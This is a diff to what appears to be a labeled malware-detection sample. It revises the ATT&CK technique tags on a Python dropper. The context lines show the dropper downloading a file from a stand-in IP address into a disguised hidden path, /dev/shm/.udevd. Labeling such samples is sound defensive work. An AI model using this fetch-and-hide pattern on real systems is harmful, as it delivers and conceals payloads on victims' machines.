@@ -1,4 +1,4 @@
-# label: malicious family=dropper techniques=T1105,T1222.002,T1059.004,T1074.001 lines=3-6
+# label: malicious family=dropper techniques=T1036.005,T1105,T1222.002,T1564.001 lines=3-6
 import os, subprocess, urllib.request
 B = "/dev/shm/.udevd"
 urllib.request.urlretrieve("http://192.0.2.14/udevd", B)
